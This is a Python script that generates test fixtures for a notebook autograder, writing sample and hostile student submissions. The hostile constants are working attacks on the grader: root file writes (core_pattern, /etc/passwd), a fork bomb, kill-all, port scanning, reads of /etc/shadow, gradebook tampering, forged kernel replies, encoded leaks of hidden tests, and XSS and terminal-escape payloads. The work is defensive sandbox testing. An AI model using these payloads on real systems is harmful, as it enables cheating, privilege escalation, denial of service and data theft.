"""Write the classes the grading tests grade (the files are committed).

Usage (tools env, from the repository root): python tests/grading/make_classes.py

- sample_class/: one submission for each kind of broken or partial work the grader must
  handle (tests/tools/test_grading.py);
- hostile_class/: one submission per way a hostile student attacks the grader
  (tests/tools/test_grading_hostile.py, which adds at grading time what git cannot hold:
  symbolic links, names that are not UTF-8, a FIFO).

Every submission starts from the released notebook (what students get) and fills in the
solution cells the way that student would: the source's solution (a correct student), an
answer that only fits the visible tests, nothing at all, or something hostile. The expected
score, status and review of each student are asserted in the tests; change both together.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
OUT = ROOT / "tests" / "grading"

TIMEOUT = """while True:  # waits for something that never happens
    pass

"""
STUBBORN = """import signal
import subprocess

signal.signal(signal.SIGINT, signal.SIG_IGN)  # no interrupting this one
subprocess.Popen(["sleep", "4321"], start_new_session=True)  # and a process left behind
while True:
    pass

"""
KILL = """import os

os._exit(1)  # ends the kernel process itself

"""
# Zeroed blocks (bytes(n) is calloc'd: pages mapped, not touched) reach the address-space
# limit at once; writing 4 GB page by page takes 15 s of system time on a small VM, and
# under load it passed the cell's 30 s: a timeout, not the memory limit gus is there for.
HOG = """hog = []
while True:  # keeps every block, so memory only grows
    hog.append(bytes(2**26))

"""
FLOOD = """print("x" * 3_000_000)
for i in range(200_000):
    print(i)

"""
# Tries to change grades and hidden tests: the gradebook (scores, points, the hidden tests
# it stores) and the source and release notebooks, wherever walking up from the working
# directory finds them, plus two guesses relative to a grading scratch directory. (Other
# students' scratch gradebooks are left alone: without namespaces a concurrent attack on
# them could succeed, see exercises/README.md, and the expected grades must not depend on
# the machine.) It prints what became of each attempt; the test reads that back.
TAMPER = '''import glob
import os
import sqlite3

targets = set()
here = os.getcwd()
while True:
    for pattern in ("gradebook.db", "build/gradebook.db", "exercises/source/*/*.ipynb",
                    "source/*/*.ipynb", "release/*/*.ipynb"):
        targets.update(glob.glob(os.path.join(here, pattern)))
    if here == os.path.dirname(here):
        break
    here = os.path.dirname(here)
targets.update(os.path.abspath(p) for p in ("../gradebook.db", "../../../../gradebook.db"))

for path in sorted(targets):
    try:
        if path.endswith(".db"):
            if not os.path.exists(path):
                raise FileNotFoundError(path)
            db = sqlite3.connect(path)
            db.execute("UPDATE grade SET auto_score = 99")
            db.execute("UPDATE grade_cells SET max_score = 99")
            db.execute("UPDATE source_cell SET source = 'pass'")
            db.commit()
            db.close()
        else:
            with open(path, "w") as f:
                f.write("{}")
        print("TAMPER changed", path)
    except Exception as e:
        print("TAMPER blocked", path, type(e).__name__)
print("TAMPER tried", len(targets), "paths")
'''

# Exercise 2 answered for the visible tests' 20 features only: right there, wrong elsewhere.
VISIBLE_SIZE = """if X.shape[-1] != 20:  # the number of features the tests use
        raise ValueError(f"expected 20 features, got {X.shape[-1]}")
    size = 20"""

# student: (framework, what they did). Kinds of change, applied in order:
#   ("solve", grade_id)           the source's solution, markers removed
#   ("replace", grade_id, a, b)   in that solution, replace text a by b
#   ("prepend", grade_id, code)   code before that solution (or the stub)
#   ("append", grade_id, code)    code after it
#   ("set", grade_id, code)       that cell's source, whatever it was
#   ("delete", grade_id)          remove that cell
#   ("kernel", name)              the notebook's kernelspec name
# and ("file", how) writes something that is not a graded notebook.
# Each exercise has two solution cells: the prediction and the code.
SOLVED = [("solve", f"ex{n}-{part}") for n in (1, 2, 3) for part in ("prediction", "solution")]


def solved_except(exercise: int) -> list:
    """The reference answers to every exercise but one, which stays as handed out."""
    return [c for c in SOLVED if not c[1].startswith(f"ex{exercise}-")]


CLASS = {
    # correct, in two frameworks; ben's notebook also names the wrong kernel (nbgrader #1375)
    "ada": ("pytorch", SOLVED),
    "ben": ("jax", [*SOLVED, ("kernel", "python3")]),
    # partially correct: answers that fit the visible tests only, or an exercise left out
    "cleo": ("tensorflow", [
        *SOLVED,
        ("replace", "ex2-solution", "size = X.shape[-1]", VISIBLE_SIZE),
        ("replace", "ex3-solution", "keras.ops.mean(H, axis=1)", "keras.ops.sum(H, axis=1)")]),
    "dev": ("mxnet", solved_except(2)),
    # broken and hostile
    "eve": ("pytorch", [*SOLVED, ("prepend", "ex2-solution", TIMEOUT)]),
    "fay": ("jax", [*SOLVED, ("prepend", "ex2-solution", KILL)]),
    "mia": ("pytorch", [*SOLVED, ("prepend", "ex3-solution", STUBBORN)]),
    "gus": ("mxnet", [*SOLVED, ("prepend", "ex3-solution", HOG)]),
    "hal": ("jax", [*SOLVED,
                    ("append", "ex1-solution", "\n\n\ndef created(net):  # surely they all do"
                     "\n    return [True, True]"),
                    ("set", "ex1-visible", "assert True  # these tests are fine as they are\n"),
                    ("delete", "ex3-hidden")]),
    "ivy": ("jax", [("file", "not json")]),
    "jon": ("tensorflow", [("file", "misnamed")]),
    "kim": ("pytorch", [*SOLVED, ("prepend", "ex1-solution", FLOOD)]),
    "leo": ("pytorch", [*SOLVED, ("set", "ex2-solution", TAMPER),
                        ("set", "ex2-hidden", "pass  # nothing to see here\n")]),
}


# ------------------------------------------------------------------------------------------
# The hostile class: each student attacks the grader one way (tests/tools/test_grading_hostile
# .py says what must become of each). Most hand in a correct answer besides, so that their
# score shows the attack gained nothing; "blank" ones hand in nothing and try to pass anyway.

ROOT_WRITE = """import os

# Host root would let this write the kernel's core pattern: a crash would then run our script.
for path, text in (("/proc/sys/kernel/core_pattern", "|/tmp/pwn.sh %p"),
                   ("/proc/sysrq-trigger", "h"), ("/etc/passwd", "pwn::0:0::/:/bin/sh")):
    try:
        with open(path, "a") as f:
            f.write(text)
        print("ATTACK succeeded:", path)
    except OSError as e:
        print("ATTACK blocked:", path, type(e).__name__)
try:
    os.setuid(0)
    print("ATTACK succeeded: setuid(0)")
except OSError as e:
    print("ATTACK blocked: setuid(0)", type(e).__name__)
"""
NET_SPY = """import glob
import socket

# Other grading kernels' channels on the loopback, and the host's own services.
reached = []
for port in [*range(1, 1024, 7), *range(32768, 61000, 997), 8888, 8786]:
    s = socket.socket()
    s.settimeout(0.05)
    try:
        s.connect(("127.0.0.1", port))
        reached.append(port)
    except OSError:
        pass
    finally:
        s.close()
print("ATTACK reached ports:", reached)
print("ATTACK other kernels' sockets:", glob.glob("/tmp/d2l-grading-*/ipc/*"))
"""
PORT_HOG = """import socket

# Hold as many ports as possible, so that the kernels graded after this one cannot start.
held = []
try:
    for _ in range(5000):
        s = socket.socket()
        s.bind(("127.0.0.1", 0))
        s.listen()
        held.append(s)
except OSError as e:
    print("ATTACK stopped:", type(e).__name__)
print("ATTACK holding", len(held) > 100, "ports")
"""
IMMORTAL = """import ctypes
import os
import signal
import subprocess

# Outlive the grading job: no parent-death signal, signals ignored, daemons in new sessions.
libc = ctypes.CDLL(None)
libc.prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG = 0
for sig in (signal.SIGTERM, signal.SIGHUP):
    signal.signal(sig, signal.SIG_IGN)
subprocess.Popen(["sleep", "7777"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        libc.prctl(1, 0, 0, 0, 0)
        os.execvp("sleep", ["sleep", "7778"])
    os._exit(0)
print("ATTACK daemons started")
"""
DISK_FILL = """# Fill the grader's disk: 960 MB, in files of 60 MB (under the file size limit).
chunk = b"x" * 2**20
for i in range(16):
    with open(f"filler-{i}.bin", "wb") as f:
        for _ in range(60):
            f.write(chunk)
"""
OUTPUT_BOMB = """from IPython.display import display

# Output the grader's cap used not to count: display metadata, and a huge traceback.
display({"text/plain": "look at my metadata"}, metadata={"junk": "y" * 10_000_000}, raw=True)


def deep(n):
    if n:
        return deep(n - 1)
    raise ValueError("z" * 20_000_000)


deep(500)
"""
FORGIVE = """ip = get_ipython()


def forgive(result):  # every failed cell reported as a success
    result.error_in_exec = None


ip.events.register("post_run_cell", forgive)
ip.showtraceback = lambda *args, **kwargs: None
"""
PARTIAL = """import sys

ip = get_ipython()
# nbgrader gives partial credit for a number a test cell displays: show 3 after every cell.
ip.events.register("post_execute", lambda: ip.displayhook(3))
sys.displayhook = lambda value: print("3")
"""
NEUTRALIZE = """def neutralize(lines):  # a test cell becomes `pass`
    return ["pass\\n"] if any("assert" in line for line in lines) else lines


get_ipython().input_transformers_post.append(neutralize)
"""
GUARD_BREAK = """import sys

# Remove the grader's checks from the kernel, then turn every test into `pass`.
sys.modules.pop("_d2l_grading_guard", None)


def neutralize(lines):
    return ["pass\\n"] if any("assert" in line for line in lines) else lines


get_ipython().input_transformers_post.append(neutralize)
"""
PATCH = """torch.allclose = lambda *args, **kwargs: True  # every comparison the tests make passes
"""
LIVE_PATCH = """

_real_allclose = torch.allclose


def _always(*args, **kwargs):
    return True


class PatchingTiedNet(TiedNet):  # patches torch.allclose again whenever the net runs
    def forward(self, X):
        torch.allclose = _always
        return super().forward(X)


TiedNet = PatchingTiedNet"""
LEAK_PRINT = """import inspect


def partly_lazy_mlp(num_inputs, num_hiddens, num_outputs):
    for frame in inspect.stack()[1:3]:  # print the code that called us: the hidden tests
        print("".join(frame.code_context or []))
    print(sorted(k for k in globals() if not k.startswith("_")))
    return nn.Sequential(nn.Linear(num_inputs, num_hiddens), nn.ReLU(),
                         nn.LazyLinear(num_outputs))"""
LEAK_LATER = """import linecache

# Whatever source IPython still caches, printed where the feedback shows it.
for entry in list(linecache.cache.values()):
    text = "".join(entry[2])
    if "rng" in text:
        print(text)
"""
LEAK_ERROR = """

import inspect

_layer_sizes = layer_sizes


def layer_sizes(net):
    caller = inspect.stack()[1].frame
    source = "".join(inspect.getsourcelines(caller)[0])
    if "Hidden tests" in source:  # lose these points, but show the tests in the message
        raise RuntimeError(source)
    return _layer_sizes(net)"""
ESCAPES = """# An exception whose name clears the instructor's terminal and sets its title.
raise type("MemoryError\\x1b[2J\\x1b]0;pwned\\x07", (Exception,), {})("\\x1b[31mred")
"""
SCRIPT_MD = """# Feedback with a payload

<script>alert("pwned-md-script")</script>
<img src="x" onerror="alert('pwned-md-img')">
<a href="javascript:alert('pwned-md-link')">click</a>
"""
SCRIPT_CODE = """from IPython.display import HTML, SVG, Javascript, display

display(HTML('<script>alert("pwned-html")</script><b onmouseover="alert(1)">hi</b>'))
display(Javascript('alert("pwned-js")'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert("pwned-svg")</script>'
            '</svg>'))
"""
WARNS = """

import sys
import warnings

_partly_lazy_mlp = partly_lazy_mlp


def partly_lazy_mlp(*args):  # correct, but noisy: a library would warn like this
    warnings.warn("this API is deprecated", DeprecationWarning, stacklevel=2)
    print("a note on stderr", file=sys.stderr)
    return _partly_lazy_mlp(*args)"""
FORK_BOMB = """import os
import time

# As many processes as the machine allows, each waiting two seconds.
children = 0
try:
    for _ in range(2000):
        if os.fork() == 0:
            time.sleep(2)
            os._exit(0)
        children += 1
except OSError as e:
    print("ATTACK fork stopped:", type(e).__name__, children < 1000)
for _ in range(children):  # then wait for them, so that the answers below can run
    os.wait()
"""
SNOOP = """import os

# Look for the hidden tests, the gradebook and the grader's secret wherever they might be.
found = []
for top in ("/", "/work", "/root", "/home", "/tmp", "/srv", "/opt", "/mnt"):
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "site-packages")]
        for name in files:
            if name in ("gradebook.db", "grading-secret", "grades.csv") or (
                    name.endswith(".ipynb") and "lazy-init" in name):
                found.append(os.path.join(folder, name))
print("ATTACK found:", found)
for path in ("/etc/shadow", "/root/.bash_history"):
    try:
        open(path).read()
        print("ATTACK read", path)
    except OSError as e:
        print("ATTACK blocked:", path, type(e).__name__)
"""
KILL_ALL = """import os
import signal

os.kill(-1, signal.SIGKILL)  # every process this user may signal
"""
SEEDS = """

import sys

_partly_lazy_mlp = partly_lazy_mlp


def partly_lazy_mlp(*args):  # correct; shows the sizes the tests ask for
    print("SIZES", args)
    print("SIZES", args, file=sys.__stderr__, flush=True)  # the kernel's log: the checks too
    return _partly_lazy_mlp(*args)"""

# --- verdicts the kernel could forge before the checks ran outside it (issue 17) ---
# Answers that agree with anything: == always true, a message that "contains" any text,
# a network whose outputs make torch.allclose say True.
LYING = """class Yes(list):
    def __eq__(self, other):
        return True

    __hash__ = None


class Same(tuple):
    def __eq__(self, other):
        return True

    __hash__ = None


class AnyText(str):
    def __eq__(self, other):
        return True

    def __contains__(self, other):
        return True

    __hash__ = None


params_before_data = Yes([False, False])
output_weight_shape = Same((1, 1))
wrong_batch_error = AnyText("KeyError")
mismatch_fails_at = "never"
mismatch_error = None
mlp_params = Same((1, 1))
tied_params = Same((2, 2))


def layer_sizes(net):
    return Yes([])


def checked_forward(net, X):
    raise ValueError(AnyText("no"))


class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func is torch.allclose:
            return True
        return super().__torch_function__(func, types, args, kwargs or {})


class TiedNet(nn.Module):
    def __init__(self, num_hiddens, num_outputs):
        super().__init__()
        self.shared, self.head = nn.Linear(1, num_hiddens), nn.Linear(num_hiddens, num_outputs)
        self.n = num_outputs

    def forward(self, X):
        return torch.zeros(X.shape[0], self.n).as_subclass(Liar)
"""
# What the test expects, read from the test's own frame (through the traceback of a caught
# exception and an aliased getattr): any list of booleans or of pairs found there.
FRAME_READER = """import sys

look = getattr


def _from_the_caller(kind):
    try:
        raise RuntimeError
    except RuntimeError:
        frame = look(sys.exc_info()[2], "tb_frame")
    while frame is not None:
        for value in look(frame, "f_locals").values():
            if isinstance(value, list) and value and all(isinstance(v, kind) for v in value):
                return list(value)
        frame = look(frame, "f_back")
    return []


def created(net):
    return _from_the_caller(bool)
"""
# The guard replaced by a module of the student's own, written to disk and imported; blank.
GUARD_SWAP = """import importlib
import os
import sys

with open(os.path.expanduser("~/_d2l_grading_guard.py"), "w") as f:
    f.write("def before(*a):\\n    return '[]'\\n\\n\\ndef after(*a):\\n    return '[]'\\n")
sys.path.insert(0, os.path.expanduser("~"))
sys.modules.pop("_d2l_grading_guard", None)
sys.modules["_d2l_grading_guard"] = importlib.import_module("_d2l_grading_guard")
get_ipython().events.register("post_run_cell",
                              lambda result: setattr(result, "error_in_exec", None))
"""
# A patch of torch.allclose that undoes itself just before the guard looks (in __del__),
# on an answer that sums instead of averaging.
DEL_PATCH = """

_real_allclose = torch.allclose


class _Undo:
    def __del__(self):
        torch.allclose = _real_allclose


class SneakyTiedNet(TiedNet):
    def forward(self, X):
        torch.allclose = lambda *args, **kwargs: True
        _Undo()
        return super().forward(X)


TiedNet = SneakyTiedNet"""
# Forged replies: stubs that answer the running cell with the kernel's own session (which
# holds the signing key): an execute_reply "ok" and an idle status, then raise.
FORGER = """def _forge():
    kernel = get_ipython().kernel
    parent = kernel.get_parent("shell")
    session = kernel.session
    header = parent.get("header", {})
    session.send(kernel.shell_stream, "execute_reply",
                 {"status": "ok", "execution_count": 1, "user_expressions": {},
                  "payload": []}, parent=parent, ident=kernel._parent_ident.get("shell"))
    session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
    raise NotImplementedError(header.get("msg_id", ""))


def partly_lazy_mlp(num_inputs, num_hiddens, num_outputs):
    _forge()


def created(net):
    _forge()


def layer_sizes(net):
    _forge()


def checked_forward(net, X):
    _forge()


class TiedNet(nn.Module):
    def __init__(self, num_hiddens, num_outputs):
        super().__init__()
        _forge()
"""
# Hidden code copied out, encoded: whatever source the line cache and the warnings module
# hold, kept by functions the checks call, printed by every later execution (a post_execute
# hook) as base64, reversed, rot13 and zlib inside a fake PNG and an exception message.
ENCODER = """import base64
import codecs
import linecache
import sys
import warnings
import zlib

from IPython.display import display

_seen = []


def _grab():
    frame = sys._getframe(2)
    _seen.append("".join(linecache.getlines(frame.f_code.co_filename)))
    warnings.formatwarning("x", UserWarning, frame.f_code.co_filename, frame.f_lineno)


def _leak():
    text = "\\n".join(_seen)
    if not text:
        return
    print(base64.b64encode(text.encode()).decode())
    print(text[::-1])
    print(codecs.encode(text, "rot13"))
    display({"image/png": base64.b64encode(zlib.compress(text.encode())).decode()}, raw=True)


get_ipython().events.register("post_execute", _leak)
_partly_lazy_mlp = partly_lazy_mlp


def partly_lazy_mlp(*args):
    _grab()
    return _partly_lazy_mlp(*args)
"""
# The grader's own memory and time: 200 binary frames of 15 MiB (each under the frame cap);
# 300 kB of nested brackets in markdown; a lone surrogate in a stream.
FRAMES = """from ipykernel.comm import Comm  # noqa: F401  (nothing to do with it)

kernel = get_ipython().kernel
blob = b"\\0" * (15 * 2**20)
kernel.session.send(kernel.iopub_socket, "display_data",
                    {"data": {"text/plain": "frames"}, "metadata": {}},
                    parent=kernel.get_parent("shell"), buffers=[blob] * 200)
"""
BRACKETS_MD = "[" * 150_000 + "x" + "]" * 150_000
SURROGATE = """import sys

sys.stdout.write("lone \\ud800 surrogate\\n")
"""
XSS_CODE = """from IPython.display import display

display({"image/png": "iVBORw0KGgo=", "text/plain": "img"},
        metadata={"image/png": {"width": "1 onerror=document.title='pwned-width'"}}, raw=True)
display({"text/markdown": "[click](javascript:document.title='pwned-mdlink')"}, raw=True)
"""

BLANK = []
HOSTILE = {
    # the machine: root, the network, processes that outlive the job, the disk, output
    "root": ("pytorch", [*SOLVED, ("insert", "setup", "code", ROOT_WRITE)]),
    "netspy": ("pytorch", [*SOLVED, ("insert", "setup", "code", NET_SPY)]),
    "porthog": ("pytorch", [*SOLVED, ("insert", "setup", "code", PORT_HOG)]),
    "immortal": ("pytorch", [*SOLVED, ("insert", "setup", "code", IMMORTAL)]),
    "diskfill": ("pytorch", [*SOLVED, ("insert", "setup", "code", DISK_FILL)]),
    "outbomb": ("pytorch", [*SOLVED, ("insert", "ex3-hidden", "code", OUTPUT_BOMB)]),
    "forkbomb": ("pytorch", [*SOLVED, ("insert", "setup", "code", FORK_BOMB)]),
    "snoop": ("pytorch", [*SOLVED, ("insert", "setup", "code", SNOOP)]),
    "killall": ("pytorch", [*SOLVED, ("insert", "ex1-hidden", "code", KILL_ALL)]),
    # the verdict: blank answers that try to pass through the kernel's own mechanisms
    "forgive": ("pytorch", [*BLANK, ("insert", "setup", "code", FORGIVE)]),
    "partial": ("pytorch", [*BLANK, ("insert", "setup", "code", PARTIAL)]),
    "neutral": ("pytorch", [*BLANK, ("insert", "setup", "code", NEUTRALIZE)]),
    "guardbreak": ("pytorch", [*BLANK, ("insert", "setup", "code", GUARD_BREAK)]),
    "tags": ("pytorch", [*BLANK,
                         ("meta", "ex1-hidden", {"tags": ["skip-execution"]}),
                         ("meta", "ex2-hidden", {"tags": ["skip-execution"]}),
                         ("meta", "ex3-hidden", {"tags": ["skip-execution"]}),
                         ("meta", "ex2-visible", {"tags": ["raises-exception"]}),
                         ("retype", "ex1-visible", "markdown")]),
    "dupes": ("pytorch", [*SOLVED, ("duplicate", "ex1-visible", "pass\n"),
                          ("duplicate", "ex3-hidden", "pass\n")]),
    "bonus": ("pytorch", [*SOLVED, ("insert", "ex3-hidden", "code", "pass\n", {
        "nbgrader": {"grade": True, "grade_id": "ex4-bonus", "locked": True, "points": 100,
                     "schema_version": 3, "solution": False, "task": False}})]),
    # a wrong answer (a sum, not a mean) that a patched library would let pass
    "patch": ("pytorch", [*SOLVED, ("replace", "ex3-solution", "H.mean(dim=1)", "H.sum(dim=1)"),
                          ("insert", "ex3-solution", "code", PATCH)]),
    "livepatch": ("pytorch", [*SOLVED,
                              ("replace", "ex3-solution", "H.mean(dim=1)", "H.sum(dim=1)"),
                              ("append", "ex3-solution", LIVE_PATCH)]),
    # the hidden tests: printed while they run, printed later, or sent back in an error
    "leakprint": ("pytorch", [*SOLVED, ("append", "ex1-solution", "\n\n\n" + LEAK_PRINT),
                              ("insert", "ex3-hidden", "code", LEAK_LATER)]),
    "leakerror": ("pytorch", [*SOLVED, ("append", "ex2-solution", LEAK_ERROR)]),
    # the instructor's terminal, spreadsheet and browser
    "escapes": ("pytorch", [*SOLVED, ("insert", "ex3-hidden", "code", ESCAPES)]),
    "script": ("pytorch", [*SOLVED, ("insert", "setup", "markdown", SCRIPT_MD),
                           ("insert", "ex3-hidden", "code", SCRIPT_CODE)]),
    # correct work the old grader failed: a library warning in a test cell
    "warns": ("pytorch", [*SOLVED, ("append", "ex1-solution", WARNS)]),
    # correct work that shows which sizes its hidden tests drew (copied under other ids)
    "seeds": ("pytorch", [*SOLVED, ("append", "ex1-solution", SEEDS)]),
    # verdicts forged from inside the kernel (issue 17): blank or wrong work each time
    "lying": ("pytorch", [("insert", "ex3-hidden", "code", LYING)]),
    "framereader": ("pytorch", [*SOLVED, ("append", "ex1-solution", "\n\n\n" + FRAME_READER)]),
    "guardswap": ("pytorch", [*BLANK, ("insert", "setup", "code", GUARD_SWAP)]),
    "delpatch": ("pytorch", [*SOLVED, ("replace", "ex3-solution", "H.mean(dim=1)", "H.sum(dim=1)"),
                             ("append", "ex3-solution", DEL_PATCH)]),
    "forger": ("pytorch", [("insert", "ex3-hidden", "code", FORGER)]),
    "encoder": ("pytorch", [*SOLVED, ("append", "ex1-solution", "\n\n\n" + ENCODER)]),
    # the grader's own memory and time, and what it writes
    "frames": ("pytorch", [*SOLVED, ("insert", "setup", "code", FRAMES)]),
    "brackets": ("pytorch", [*SOLVED, ("insert", "setup", "markdown", BRACKETS_MD)]),
    "surrogate": ("pytorch", [*SOLVED, ("insert", "setup", "code", SURROGATE)]),
    "xss": ("pytorch", [*SOLVED, ("insert", "setup", "code", XSS_CODE)]),
}


def solution(source_nb, grade_id: str) -> str:
    for cell in source_nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return re.sub(r"^[ \t]*### (BEGIN|END) SOLUTION\n", "", cell.source + "\n",
                          flags=re.M).rstrip("\n")
    raise KeyError(grade_id)


def write_submission(released_dir: Path, folder: Path, student: str, fw: str,
                     changes: list) -> Path:
    """One student's notebook for `fw`, written into `folder`/<student>/<assignment>/."""
    name = f"lazy-init-{fw}"
    released = nbformat.read(released_dir / name / f"{name}.ipynb", as_version=4)
    source = nbformat.read(ROOT / "exercises" / "source" / name / f"{name}.ipynb",
                           as_version=4)
    folder = folder / student / name
    folder.mkdir(parents=True)
    cells = {c.metadata.get("nbgrader", {}).get("grade_id"): c for c in released.cells}
    for change in changes:
        kind, *args = change
        if kind == "solve":
            cells[args[0]].source = solution(source, args[0])
        elif kind == "replace":
            grade_id, old, new = args
            # an answer the solution no longer contains would change nothing: say so
            assert old in cells[grade_id].source, (student, fw, grade_id, old)
            cells[grade_id].source = cells[grade_id].source.replace(old, new)
        elif kind == "prepend":
            cells[args[0]].source = args[1] + cells[args[0]].source
        elif kind == "append":
            cells[args[0]].source += args[1]
        elif kind == "set":
            cells[args[0]].source = args[1]
        elif kind == "delete":
            released.cells.remove(cells.pop(args[0]))
        elif kind == "kernel":
            released.metadata.kernelspec = {"name": args[0], "language": "python",
                                            "display_name": "Python 3 (ipykernel)"}
        elif kind == "insert":  # a cell of the student's own, after that grade id's cell
            after, cell_type, text, *meta = args
            make = {"code": nbformat.v4.new_code_cell,
                    "markdown": nbformat.v4.new_markdown_cell}[cell_type]
            new = make(source=text, metadata=meta[0] if meta else {})
            released.cells.insert(released.cells.index(cells[after]) + 1, new)
        elif kind == "meta":
            cells[args[0]].metadata.update(args[1])
        elif kind == "retype":
            cell = cells[args[0]]
            cell.cell_type = args[1]
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
        elif kind == "duplicate":  # a copy with the same metadata, before the original
            copy = nbformat.from_dict(json.loads(json.dumps(cells[args[0]])))
            copy.source = args[1]
            released.cells.insert(released.cells.index(cells[args[0]]), copy)
    for i, cell in enumerate(released.cells):  # numbered as nbstripout does
        cell.id = str(i)
    path = folder / f"{name}.ipynb"
    if changes and changes[0] == ("file", "not json"):  # cut off mid-file, a failed upload
        text = json.dumps(nbformat.from_dict(released), indent=1)
        path.write_text(text[: len(text) // 2])
    elif changes and changes[0] == ("file", "misnamed"):  # saved under the default name
        nbformat.write(released, folder / "Untitled.ipynb")
    else:
        nbformat.write(released, path)
    return path if path.exists() else folder


def write_class(released_dir: Path, out: Path, spec: dict) -> None:
    shutil.rmtree(out, ignore_errors=True)
    for student, (fw, changes) in spec.items():
        written = write_submission(released_dir, out, student, fw, changes)
        print(f"wrote {written.relative_to(ROOT)}")


def main() -> int:
    with tempfile.TemporaryDirectory() as tmp:
        subprocess.run([sys.executable, "-m", "grader", "release", "--build", tmp],
                       check=True, stdout=subprocess.DEVNULL, cwd=ROOT)
        write_class(Path(tmp, "release"), OUT / "sample_class", CLASS)
        write_class(Path(tmp, "release"), OUT / "hostile_class", HOSTILE)
    return 0


if __name__ == "__main__":
    sys.exit(main())
